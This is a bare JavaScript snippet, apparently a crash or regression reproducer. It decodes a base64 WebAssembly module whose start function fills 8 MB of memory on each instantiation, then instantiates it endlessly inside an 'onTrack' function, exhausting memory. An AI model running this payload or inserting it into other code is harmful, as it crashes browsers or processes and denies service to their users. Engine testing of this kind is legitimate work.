const module = new WebAssembly.Module(Uint8Array.from(atob("AGFzbQEAAAABBAFgAAADAgEABQQBAIABBwEACAEAChABDgBBAEEBQYCAgAT8CwAL"), (c) => c.charCodeAt(0)));
async function onTrack() { const all = []; for (;;) all.push(new WebAssembly.Instance(module)); }
